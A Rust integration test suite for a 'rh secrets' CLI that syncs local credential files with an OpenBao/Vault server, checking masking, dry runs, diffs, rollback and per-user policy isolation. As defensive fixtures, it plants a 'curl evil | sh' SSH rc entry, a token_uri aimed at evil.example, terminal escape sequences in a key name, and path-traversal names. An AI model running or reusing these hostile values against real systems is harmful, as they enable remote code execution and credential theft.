//! `rh secrets put|get|pull|push|update|delete|history|rollback|diff` against the shared OpenBao, with the
//! official `bao` CLI reading what rh wrote. Each test uses its own Vault user path.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use rh_secrets::store::SecretStore;
use rh_secrets::vault::{VaultOptions, VaultStore};
use rh_test::{CliTest, mode, stderr, stdout};

use crate::fixtures::{ALL, SENTINEL, all_providers, home_files};
use secrecy::SecretString;

struct VaultTest {
    t: CliTest,
    user: String,
    addr: String,
    token: String,
}

impl VaultTest {
    fn new(tag: &str) -> Option<Self> {
        if !rh_test::integration() {
            return None;
        }
        let addr = rh_test::service_env("VAULT_ADDR").expect("VAULT_ADDR");
        let token = rh_test::service_env("VAULT_TOKEN").expect("VAULT_TOKEN");
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let user = format!("cli-{tag}-{}-{nanos}", std::process::id());
        let mut t = CliTest::new(env!("CARGO_BIN_EXE_rh"));
        t.env("VAULT_ADDR", &addr)
            .env("VAULT_TOKEN", &token)
            .env("RH_USERNAME", &user);
        Some(Self {
            t,
            user,
            addr,
            token,
        })
    }

    /// A library client of the same user path, to seed or inspect Vault.
    fn store(&self) -> VaultStore {
        VaultStore::new(&VaultOptions::new(
            &self.addr,
            SecretString::from(self.token.clone()),
            Some(&self.user),
        ))
        .unwrap()
    }

    /// Runs rh and checks that no secret value reached its output.
    fn run(&self, args: &[&str]) -> Output {
        let out = self.t.run(args);
        assert_clean(&out);
        out
    }

    fn ok(&self, args: &[&str]) -> Output {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "rh {args:?} failed\nstdout: {}\nstderr: {}",
            stdout(&out),
            stderr(&out)
        );
        out
    }

    fn fails(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "rh {args:?}\nstdout: {}\nstderr: {}",
            stdout(&out),
            stderr(&out)
        );
        stderr(&out)
    }

    fn save_all(&self) {
        let mut child = self
            .t
            .command()
            .args(["secrets", "save", "--from-json", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(ALL.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }

    fn home(&self) -> PathBuf {
        self.t.home()
    }
}

fn assert_clean(out: &Output) {
    let (o, e) = (stdout(out), stderr(out));
    assert!(
        !o.contains(SENTINEL) && !e.contains(SENTINEL),
        "a secret value leaked\nstdout: {o}\nstderr: {e}"
    );
}

fn bao() -> PathBuf {
    let home = rh_test::service_env("SVC_HOME").unwrap_or_else(|| "/opt/ci-svc".to_owned());
    Path::new(&home).join("venv-bao/bin/bao")
}

#[test]
fn round_trip_of_every_builtin_and_a_custom_provider() {
    let Some(v) = VaultTest::new("roundtrip") else {
        return;
    };
    v.save_all();
    let before = home_files(&v.home());
    assert!(before.len() >= 10, "{before:?}");
    let names = all_providers();
    let mut push = vec!["secrets", "push", "--yes"];
    push.extend(names.iter().map(String::as_str));
    let out = v.ok(&push);
    assert!(
        stderr(&out).contains(&format!(
            "Uploaded secrets to Vault for: [{}]",
            names.join(", ")
        )),
        "{}",
        stderr(&out)
    );
    v.ok(&[
        "secrets",
        "put",
        "mydb",
        "password=db-SENTINEL-pw",
        "user=admin",
    ]);

    // The official CLI reads what rh wrote.
    let out = Command::new(bao())
        .args([
            "kv",
            "get",
            "-mount=secret",
            "-format=json",
            &format!("rh/{}/aws", v.user),
        ])
        .env("VAULT_ADDR", &v.addr)
        .env("VAULT_TOKEN", &v.token)
        .output()
        .expect("run bao");
    assert!(out.status.success(), "{}", stderr(&out));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["data"]["data"]["access_key"], "AKIASENTINEL00000001");
    assert_eq!(json["data"]["data"]["secret_key"], "aws-secret-SENTINEL");

    // Nothing changed: a second push uploads nothing.
    let out = v.ok(&push);
    assert!(
        stderr(&out).contains("nothing to upload"),
        "{}",
        stderr(&out)
    );

    // Delete every local file, pull, and get the same bytes and modes back.
    for (p, _, _) in &before {
        std::fs::remove_file(p).unwrap();
    }
    let out = v.ok(&["secrets", "pull"]);
    let err = stderr(&out);
    assert!(err.contains("Getting secrets from Vault."), "{err}");
    assert!(
        err.contains("Saved secrets from Vault to local config files"),
        "{err}"
    );
    let after = home_files(&v.home());
    assert_eq!(
        after.iter().map(|(p, _, _)| p).collect::<Vec<_>>(),
        before.iter().map(|(p, _, _)| p).collect::<Vec<_>>()
    );
    for ((p, a, _), (_, b, m)) in before.iter().zip(&after) {
        assert!(a == b, "{} differs after the round trip", p.display());
        assert_eq!(*m, 0o600, "{}", p.display());
    }
    // The custom provider is returned masked, never written locally.
    assert!(stdout(&out).contains("mydb:"), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("password: '************'")
            || stdout(&out).contains("password: ************"),
        "{}",
        stdout(&out)
    );

    // Only --reveal shows a value.
    let masked = stdout(&v.ok(&["secrets", "get", "mydb"]));
    assert!(masked.contains("user: "), "{masked}");
    let out = v.t.run(["secrets", "get", "mydb", "--reveal", "--json"]);
    assert!(out.status.success());
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["values"]["password"], "db-SENTINEL-pw");
    assert_eq!(json["version"], 1);
}

#[test]
fn dry_runs_print_the_plan_and_change_nothing() {
    let Some(v) = VaultTest::new("dryrun") else {
        return;
    };
    v.ok(&[
        "secrets",
        "save",
        "aws",
        "access_key=AKIASENTINEL00000002",
        "secret_key=s-SENTINEL",
    ]);
    let out = v.ok(&["secrets", "push", "--dry-run"]);
    assert_eq!(
        stdout(&out),
        "aws: create version 1 (access_key, secret_key)\ndry run: nothing changed\n"
    );
    assert!(
        v.fails(&["secrets", "get", "aws"])
            .contains("No secrets found in Vault for aws")
    );

    // Without --yes and without a terminal, push refuses.
    let err = v.fails(&["secrets", "push"]);
    assert!(err.contains("pass --yes"), "{err}");
    assert!(v.store().list_blocking().is_empty());

    v.ok(&["secrets", "push", "--yes"]);
    v.ok(&[
        "secrets",
        "save",
        "aws",
        "access_key=AKIASENTINEL00000002",
        "secret_key=s2-SENTINEL",
    ]);
    let out = v.ok(&["secrets", "push", "--dry-run", "aws"]);
    assert_eq!(
        stdout(&out),
        "aws: update version 1 -> 2 (secret_key changes)\ndry run: nothing changed\n"
    );
    let before = home_files(&v.home());
    let out = v.ok(&["secrets", "pull", "--dry-run"]);
    assert_eq!(
        stdout(&out),
        "aws (Vault version 1): write ~/.aws/credentials\ndry run: nothing changed\n"
    );
    assert_eq!(home_files(&v.home()), before);
    assert_eq!(v.store().history_blocking("aws"), vec![1]);
}

#[test]
fn key_names_from_vault_cannot_drive_the_terminal() {
    let Some(v) = VaultTest::new("controls") else {
        return;
    };
    let hostile = "k\u{1b}]52;c;cHduZWQ=\u{7}\u{9b}2J";
    // Written straight to KV v2 (rh's own client would refuse such a key in its metadata), as anyone with
    // write access to the path could.
    let body = serde_json::json!({"data": {hostile: "value-SENTINEL"}}).to_string();
    let url = format!("{}/v1/secret/data/rh/{}/custom1", v.addr, v.user);
    let put = Command::new("curl")
        .args(["-sSf", "-X", "POST", "-H"])
        .arg(format!("X-Vault-Token: {}", v.token))
        .args(["--data-binary", &body, &url])
        .output()
        .expect("curl");
    assert!(
        put.status.success(),
        "{}",
        String::from_utf8_lossy(&put.stderr)
    );
    for args in [
        &["secrets", "diff"][..],
        &["secrets", "pull", "--dry-run"][..],
    ] {
        let out = v.ok(args);
        let text = format!("{}{}", stdout(&out), stderr(&out));
        assert!(
            !text
                .chars()
                .any(|c| matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}')),
            "{args:?} printed a raw control character: {text:?}"
        );
        assert!(
            text.contains("k\\x1b]52;c;cHduZWQ=\\x07\\u{9b}2J"),
            "{args:?}: {text:?}"
        );
    }
}

#[test]
fn diff_shows_every_state_from_metadata_only() {
    let Some(v) = VaultTest::new("diff") else {
        return;
    };
    let store = v.store();
    block_on(SecretStore::put(
        &store,
        "aws",
        &[
            ("access_key", "AKIASENTINEL00000003"),
            ("secret_key", "remote-SENTINEL"),
            ("session_token", "tok-SENTINEL"),
        ]
        .into_iter()
        .collect(),
        None,
    ))
    .unwrap();
    v.ok(&[
        "secrets",
        "save",
        "aws",
        "access_key=AKIASENTINEL00000003",
        "secret_key=local-SENTINEL",
    ]);
    v.ok(&["secrets", "save", "huggingface", "token=hf_SENTINEL"]);
    let out = v.ok(&["secrets", "diff", "--json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let states = |provider: &str| -> Vec<(String, String)> {
        json.as_array()
            .unwrap()
            .iter()
            .find(|d| d["provider"] == provider)
            .unwrap()["keys"]
            .as_array()
            .unwrap()
            .iter()
            .map(|k| {
                (
                    k["key"].as_str().unwrap().to_owned(),
                    k["state"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let s = |a: &str, b: &str| (a.to_owned(), b.to_owned());
    assert_eq!(
        states("aws"),
        vec![
            s("access_key", "same"),
            s("secret_key", "differs"),
            s("session_token", "only_remote")
        ]
    );
    assert_eq!(states("huggingface"), vec![s("token", "only_local")]);
    let table = stdout(&v.ok(&["secrets", "diff", "aws"]));
    assert_eq!(
        table,
        "PROVIDER       KEY                      STATE\n\
         aws            access_key               same\n\
         aws            secret_key               differs\n\
         aws            session_token            only in Vault\n"
    );
    // One metadata read for one provider; no value read.
    let out = v.ok(&["-v", "secrets", "diff", "aws"]);
    assert!(
        stderr(&out).contains("made 1 requests to the secret store (metadata only)"),
        "{}",
        stderr(&out)
    );

    // Another tool writes a new version: the fingerprints no longer describe it, so rh compares values
    // (still printing none) and says so.
    let out = Command::new(bao())
        .args([
            "kv",
            "put",
            "-mount=secret",
            &format!("rh/{}/aws", v.user),
            "access_key=AKIASENTINEL00000003",
            "secret_key=local-SENTINEL",
        ])
        .env("VAULT_ADDR", &v.addr)
        .env("VAULT_TOKEN", &v.token)
        .output()
        .expect("run bao");
    assert!(out.status.success(), "{}", stderr(&out));
    let out = v.ok(&["-v", "secrets", "diff", "aws"]);
    assert!(
        stdout(&out).contains("aws            secret_key               same"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains(
            "made 2 requests to the secret store (some fingerprints were stale, values read)"
        ),
        "{}",
        stderr(&out)
    );
    // A push now finds nothing to change.
    assert!(stderr(&v.ok(&["secrets", "push", "--yes", "aws"])).contains("nothing to upload"));
}

#[test]
fn history_rollback_update_and_delete() {
    let Some(v) = VaultTest::new("history") else {
        return;
    };
    v.ok(&["secrets", "put", "lambda", "api_key=one-SENTINEL"]);
    v.ok(&["secrets", "update", "lambda", "api_key=two-SENTINEL"]);
    let out = v.ok(&["secrets", "history", "lambda", "--json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 2);
    assert_eq!(json[1]["version"], 2);
    assert!(json[0]["created_time"].as_str().unwrap().len() > 10);
    let table = stdout(&v.ok(&["secrets", "history", "lambda"]));
    assert!(table.starts_with("VERSION  CREATED"), "{table}");
    v.ok(&["secrets", "rollback", "lambda", "1"]);
    let out = v.t.run(["secrets", "get", "lambda", "--reveal"]);
    assert_eq!(stdout(&out), "api_key: one-SENTINEL\n");
    assert_eq!(v.store().history_blocking("lambda"), vec![1, 2, 3]);

    // get --save writes the local file.
    v.ok(&["secrets", "get", "lambda", "--save"]);
    let file = v.home().join(".lambda_cloud/lambda_keys");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "api_key = one-SENTINEL\n"
    );
    // --remote keeps the local file; without --yes nothing happens.
    assert!(
        v.fails(&["secrets", "delete", "lambda", "--remote"])
            .contains("nothing deleted")
    );
    v.ok(&["secrets", "delete", "lambda", "--remote", "--yes"]);
    assert!(file.exists());
    assert!(v.store().history_blocking("lambda").is_empty());
    v.ok(&["secrets", "put", "lambda"]);
    v.ok(&["secrets", "delete", "lambda", "--yes"]);
    assert!(!file.exists());
    assert!(v.store().list_blocking().is_empty());
}

#[test]
fn ssh_keys_are_never_clobbered_without_force() {
    let Some(v) = VaultTest::new("ssh") else {
        return;
    };
    let store = v.store();
    block_on(SecretStore::put(
        &store,
        "ssh",
        &[
            ("id_x", "REMOTE-SENTINEL\n"),
            ("id_x.pub", "ssh-ed25519 R x\n"),
        ]
        .into_iter()
        .collect(),
        None,
    ))
    .unwrap();
    let dir = v.home().join(".ssh");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("id_x"), "LOCAL\n").unwrap();
    std::fs::write(dir.join("id_x.pub"), "ssh-ed25519 L x\n").unwrap();
    let out = v.ok(&["secrets", "pull", "ssh"]);
    assert!(
        stderr(&out).contains("Key id_x already exists, skipping."),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("id_x")).unwrap(),
        "LOCAL\n"
    );
    v.ok(&["secrets", "pull", "ssh", "--force"]);
    assert_eq!(
        std::fs::read(dir.join("id_x")).unwrap(),
        b"REMOTE-SENTINEL\n"
    );
    assert_eq!(mode(&dir.join("id_x")), 0o600);
}

#[test]
fn unreachable_vault_is_one_line_and_leaves_files_alone() {
    let Some(mut v) = VaultTest::new("down") else {
        return;
    };
    v.save_all();
    let before = home_files(&v.home());
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    v.t.env("VAULT_ADDR", format!("http://127.0.0.1:{port}"));
    for args in [
        &["secrets", "pull"][..],
        &["secrets", "pull", "aws", "--force"],
        &["secrets", "push", "--yes", "aws"],
        &["secrets", "get", "aws", "--save"],
        &["secrets", "diff"],
        &["secrets", "delete", "aws", "--yes"],
        &["secrets", "put", "aws"],
    ] {
        let err = v.fails(args);
        let err = error_lines(&err);
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(
            err.starts_with(&format!(
                "error: cannot reach Vault at http://127.0.0.1:{port}"
            )),
            "{args:?}: {err}"
        );
    }
    assert_eq!(home_files(&v.home()), before);
}

#[test]
fn wrong_token_is_a_clear_403() {
    let Some(mut v) = VaultTest::new("token") else {
        return;
    };
    v.t.env("VAULT_TOKEN", "wrong-SENTINEL-token");
    let err = v.fails(&["secrets", "get", "aws"]);
    assert!(err.contains("refused the token (403)"), "{err}");
    assert!(err.contains("check VAULT_TOKEN"), "{err}");
    assert_eq!(error_lines(&err).lines().count(), 1, "{err}");
}

/// Stderr without its INFO lines: what is left must be the one `error:` line.
fn error_lines(stderr: &str) -> String {
    let mut out = String::new();
    for l in stderr.lines().filter(|l| !l.starts_with("INFO |")) {
        out.push_str(l);
        out.push('\n');
    }
    out
}

// Small blocking helpers: the CLI tests are sync, the store is async.
fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(f)
}

trait Blocking {
    fn list_blocking(&self) -> Vec<String>;
    fn history_blocking(&self, provider: &str) -> Vec<u64>;
}

impl Blocking for VaultStore {
    fn list_blocking(&self) -> Vec<String> {
        block_on(SecretStore::list(self)).unwrap()
    }

    fn history_blocking(&self, provider: &str) -> Vec<u64> {
        block_on(SecretStore::history(self, provider))
            .unwrap()
            .iter()
            .map(|h| h.version)
            .collect()
    }
}

#[test]
fn concurrent_writers_never_overwrite_silently() {
    let Some(v) = VaultTest::new("race") else {
        return;
    };
    v.ok(&["secrets", "put", "lambda", "api_key=v0-SENTINEL"]);
    // Eight processes read version 1 and write at once: each either makes its own new version or fails
    // with a conflict; none replaces another's write unnoticed.
    let children: Vec<_> = (1..=8)
        .map(|i| {
            v.t.command()
                .args([
                    "secrets",
                    "update",
                    "lambda",
                    &format!("api_key=v{i}-SENTINEL"),
                ])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let outs: Vec<Output> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    let mut won = 0;
    for out in &outs {
        assert_clean(out);
        if out.status.success() {
            won += 1;
        } else {
            let err = stderr(out);
            assert!(err.contains("changed in Vault since it was read"), "{err}");
        }
    }
    assert!(won >= 1);
    assert_eq!(v.store().history_blocking("lambda").len(), 1 + won);
}

#[test]
fn push_asks_per_provider_on_a_terminal() {
    let Some(v) = VaultTest::new("ask") else {
        return;
    };
    // util-linux `script` gives rh a terminal; without it there is nothing to answer.
    if !Path::new("/usr/bin/script").exists() {
        return;
    }
    v.ok(&[
        "secrets",
        "save",
        "aws",
        "access_key=AKIASENTINEL00000009",
        "secret_key=s-SENTINEL",
    ]);
    v.ok(&["secrets", "save", "huggingface", "token=hf_SENTINEL"]);
    let inner = v.t.command();
    let mut cmd = Command::new("/usr/bin/script");
    cmd.env_clear()
        .args([
            "-qec",
            &format!("{} secrets push aws huggingface", env!("CARGO_BIN_EXE_rh")),
            "/dev/null",
        ])
        .current_dir(v.t.work_dir())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, val) in inner.get_envs() {
        if let Some(val) = val {
            cmd.env(k, val);
        }
    }
    let mut child = cmd.spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"y\nn\n").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_clean(&out);
    let text = stdout(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("Upload secrets for aws? [y/N]"), "{text}");
    assert!(
        text.contains("Upload secrets for huggingface? [y/N]"),
        "{text}"
    );
    assert!(
        text.contains("Uploaded secrets to Vault for: [aws]"),
        "{text}"
    );
    assert_eq!(v.store().list_blocking(), vec!["aws".to_owned()]);
}

#[test]
fn store_configuration_errors_say_how_to_fix_them() {
    let Some(v) = VaultTest::new("config") else {
        return;
    };
    // No VAULT_ADDR anywhere.
    let t = CliTest::new(env!("CARGO_BIN_EXE_rh"));
    let out = t.run(["secrets", "get", "aws"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("no secret store configured: set VAULT_ADDR"),
        "{}",
        stderr(&out)
    );
    // VAULT_ADDR but no token.
    let mut t = CliTest::new(env!("CARGO_BIN_EXE_rh"));
    t.env("VAULT_ADDR", &v.addr).env("RH_USERNAME", &v.user);
    let out = t.run(["secrets", "get", "aws"]);
    assert!(
        stderr(&out).contains("no Vault token: set VAULT_TOKEN or write it to"),
        "{}",
        stderr(&out)
    );
    // The token in ~/.vault-token, as the vault CLI leaves it.
    std::fs::write(t.home().join(".vault-token"), format!("{}\n", v.token)).unwrap();
    let out = t.run(["secrets", "put", "mydb", "password=x-SENTINEL"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(v.store().list_blocking(), vec!["mydb".to_owned()]);
}

#[test]
fn put_takes_env_files_and_pairs() {
    let Some(mut v) = VaultTest::new("put") else {
        return;
    };
    let creds = v.t.work_dir().join("creds");
    std::fs::write(
        &creds,
        "[default]\naws_access_key_id = AKIASENTINELFILE0001\naws_secret_access_key = f-SENTINEL\n",
    )
    .unwrap();
    v.ok(&["secrets", "put", "aws", "--file", creds.to_str().unwrap()]);
    let custom = v.t.work_dir().join("db.json");
    std::fs::write(&custom, r#"{"password": "j-SENTINEL"}"#).unwrap();
    v.ok(&["secrets", "put", "mydb", "--file", custom.to_str().unwrap()]);
    let err = v.fails(&["secrets", "put", "mydb"]);
    assert!(
        err.contains("mydb is a custom provider: give its values"),
        "{err}"
    );
    let err = v.fails(&["secrets", "put", "aws", "access_key=only-SENTINEL"]);
    assert!(err.contains("secret_key"), "{err}");
    let err = v.fails(&["secrets", "put", "../escape", "k=v"]);
    assert!(err.contains("invalid provider name"), "{err}");
    v.t.env("HF_TOKEN", "hf_SENTINEL_env");
    v.ok(&["secrets", "put", "huggingface", "--from-env"]);
    let store = v.store();
    let got = |p: &str| block_on(SecretStore::get(&store, p)).unwrap().unwrap().0;
    assert_eq!(
        got("aws").expose("access_key"),
        Some("AKIASENTINELFILE0001")
    );
    assert_eq!(got("mydb").expose("password"), Some("j-SENTINEL"));
    assert_eq!(got("huggingface").expose("token"), Some("hf_SENTINEL_env"));
}

/// Issue 15.2: a pull writes only key files into `~/.ssh` and only an authorized_user credential's keys
/// into the GCP file; anything else in Vault stops the pull before any write.
#[test]
fn a_pull_with_names_or_keys_outside_the_allow_lists_writes_nothing() {
    let Some(v) = VaultTest::new("allow") else {
        return;
    };
    let store = v.store();
    let put = |provider: &str, pairs: &[(&str, &str)]| {
        block_on(SecretStore::put(
            &store,
            provider,
            &pairs.iter().copied().collect(),
            None,
        ))
        .unwrap();
    };
    put(
        "ssh",
        &[
            ("id_x", "PRIVATE-SENTINEL\n"),
            ("id_x.pub", "ssh-ed25519 X x\n"),
            ("rc", "curl evil | sh\n"),
            ("known_hosts2", "* ssh-ed25519 EVIL\n"),
        ],
    );
    let err = v.fails(&["secrets", "pull", "ssh"]);
    assert!(err.contains("invalid ssh key name `known_hosts2`"), "{err}");
    assert!(!v.home().join(".ssh").exists(), "something was written");

    let adc = v
        .home()
        .join(".config/gcloud/application_default_credentials.json");
    std::fs::create_dir_all(adc.parent().unwrap()).unwrap();
    let local = r#"{"type": "authorized_user", "client_id": "c", "client_secret": "s", "refresh_token": "rt-SENTINEL-local"}"#;
    std::fs::write(&adc, local).unwrap();
    put(
        "gcp",
        &[
            ("client_id", "c2"),
            ("client_secret", "s2-SENTINEL"),
            ("token_uri", "https://evil.example/token"),
        ],
    );
    let before = home_files(&v.home());
    for args in [&["secrets", "pull", "gcp"][..], &["secrets", "pull"]] {
        let err = v.fails(args);
        assert!(
            err.contains("gcp secrets have an unknown key `token_uri`")
                || err.contains("invalid ssh key name"),
            "{err}"
        );
        assert_eq!(home_files(&v.home()), before, "rh {args:?} wrote something");
    }
    assert_eq!(std::fs::read(&adc).unwrap(), local.as_bytes());
}

/// Issue 15.4: direct Vault access checks the username with the server's grammar, so it is one path
/// segment under `rh/`.
#[test]
fn a_username_outside_the_server_grammar_is_refused() {
    let Some(mut v) = VaultTest::new("username") else {
        return;
    };
    let err = v.fails(&["--username", "../x", "secrets", "get", "aws"]);
    assert!(err.contains(r#"invalid username "../x""#), "{err}");
    assert_eq!(error_lines(&err).lines().count(), 1, "{err}");
    v.t.env("RH_USERNAME", "bob/aws");
    let err = v.fails(&["secrets", "put", "mydb", "password=x"]);
    assert!(err.contains(r#"invalid username "bob/aws""#), "{err}");
}

/// The README's templated per-user policy, as text: `<mount>/…/rh/<entity name>/…` only.
const USER_POLICY: &str = r#"path "secret/data/rh/{{identity.entity.name}}/*" {
  capabilities = ["create", "read", "update", "delete"]
}
path "secret/metadata/rh/{{identity.entity.name}}/*" {
  capabilities = ["create", "read", "update", "delete", "list"]
}
"#;

/// Runs the official CLI as root against the shared OpenBao.
fn bao_root(args: &[&str], stdin: Option<&str>) -> serde_json::Value {
    let mut cmd = Command::new(bao());
    cmd.args(args)
        .env("VAULT_ADDR", rh_test::service_env("VAULT_ADDR").unwrap())
        .env("VAULT_TOKEN", rh_test::service_env("VAULT_TOKEN").unwrap())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("run bao");
    if let Some(input) = stdin {
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.as_bytes())
            .unwrap();
    }
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "bao {args:?}: {}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null)
}

/// Removes what the policy test created in the shared OpenBao, also when it fails.
struct PolicyCleanup {
    mount: String,
    policy: String,
    entity: Option<String>,
}

impl Drop for PolicyCleanup {
    fn drop(&mut self) {
        let run = |args: &[&str]| {
            let _ = Command::new(bao())
                .args(args)
                .env("VAULT_ADDR", rh_test::service_env("VAULT_ADDR").unwrap())
                .env("VAULT_TOKEN", rh_test::service_env("VAULT_TOKEN").unwrap())
                .output();
        };
        run(&["auth", "disable", &self.mount]);
        run(&["policy", "delete", &self.policy]);
        if let Some(id) = &self.entity {
            run(&["delete", &format!("identity/entity/id/{id}")]);
        }
    }
}

/// Issue 15.4: with the README's templated policy, a user's own token reaches `rh/<their name>/` and
/// nothing else, whatever `--username` says. Tested on the real OpenBao: a userpass login bound to an
/// entity named like the rh user.
#[test]
fn the_templated_policy_keeps_each_token_on_its_own_users_path() {
    let Some(v) = VaultTest::new("policy") else {
        return;
    };
    let alice = v.user.clone();
    let bob = format!("{alice}-bob");
    let unique = alice.trim_start_matches("cli-");
    let mut cleanup = PolicyCleanup {
        mount: format!("up-{unique}"),
        policy: format!("rh-user-{unique}"),
        entity: None,
    };
    bao_root(
        &["policy", "write", &cleanup.policy, "-"],
        Some(USER_POLICY),
    );
    bao_root(
        &[
            "auth",
            "enable",
            &format!("-path={}", cleanup.mount),
            "userpass",
        ],
        None,
    );
    let password = format!("pw-{unique}");
    bao_root(
        &[
            "write",
            &format!("auth/{}/users/{alice}", cleanup.mount),
            &format!("password={password}"),
            &format!("token_policies={}", cleanup.policy),
        ],
        None,
    );
    let mounts = bao_root(&["auth", "list", "-format=json"], None);
    let accessor = mounts[format!("{}/", cleanup.mount)]["accessor"]
        .as_str()
        .expect("accessor")
        .to_owned();
    let entity = bao_root(
        &[
            "write",
            "-format=json",
            "identity/entity",
            &format!("name={alice}"),
        ],
        None,
    );
    let id = entity["data"]["id"].as_str().expect("entity id").to_owned();
    cleanup.entity = Some(id.clone());
    bao_root(
        &[
            "write",
            "identity/entity-alias",
            &format!("name={alice}"),
            &format!("canonical_id={id}"),
            &format!("mount_accessor={accessor}"),
        ],
        None,
    );
    let login = bao_root(
        &[
            "write",
            "-format=json",
            &format!("auth/{}/login/{alice}", cleanup.mount),
            &format!("password={password}"),
        ],
        None,
    );
    let alice_token = login["auth"]["client_token"]
        .as_str()
        .expect("token")
        .to_owned();

    // Bob's secret, written as root.
    let bob_store = VaultStore::new(&VaultOptions::new(
        &v.addr,
        SecretString::from(v.token.clone()),
        Some(&bob),
    ))
    .unwrap();
    block_on(SecretStore::put(
        &bob_store,
        "aws",
        &[("access_key", "AKIABOB"), ("secret_key", "bob-SENTINEL")]
            .into_iter()
            .collect(),
        None,
    ))
    .unwrap();

    // Alice, with her own token: her path works (write, read, list, history, delete).
    let mut t = CliTest::new(env!("CARGO_BIN_EXE_rh"));
    t.env("VAULT_ADDR", &v.addr)
        .env("VAULT_TOKEN", &alice_token);
    let as_alice = |args: &[&str]| {
        let mut all = vec!["--username", alice.as_str()];
        all.extend(args);
        let out = t.run(&all);
        assert_clean(&out);
        out
    };
    for args in [
        &["secrets", "put", "mydb", "password=alice-SENTINEL"][..],
        &["secrets", "update", "mydb", "user=alice"],
        &["secrets", "get", "mydb"],
        &["secrets", "history", "mydb"],
        &["secrets", "pull", "--dry-run"],
    ] {
        let out = as_alice(args);
        assert!(out.status.success(), "rh {args:?}: {}", stderr(&out));
    }
    let got = block_on(SecretStore::get(&v.store(), "mydb"))
        .unwrap()
        .unwrap()
        .0;
    assert_eq!(got.keys().collect::<Vec<_>>(), ["password", "user"]);

    // Claiming to be bob: every read and write is refused by Vault.
    for args in [
        &["--username", bob.as_str(), "secrets", "get", "aws"][..],
        &[
            "--username",
            bob.as_str(),
            "secrets",
            "put",
            "aws",
            "access_key=A",
            "secret_key=S",
        ],
        &[
            "--username",
            bob.as_str(),
            "secrets",
            "delete",
            "aws",
            "--remote",
            "--yes",
        ],
        &["--username", bob.as_str(), "secrets", "pull", "--dry-run"],
    ] {
        let out = t.run(args);
        assert_clean(&out);
        assert_eq!(out.status.code(), Some(1), "rh {args:?}: {}", stdout(&out));
        assert!(
            stderr(&out).contains("refused the token (403)"),
            "rh {args:?}: {}",
            stderr(&out)
        );
    }
    // Bob's secret is untouched.
    let got = block_on(SecretStore::get(&bob_store, "aws"))
        .unwrap()
        .unwrap();
    assert_eq!(got.1, 1);
    drop(cleanup);
}
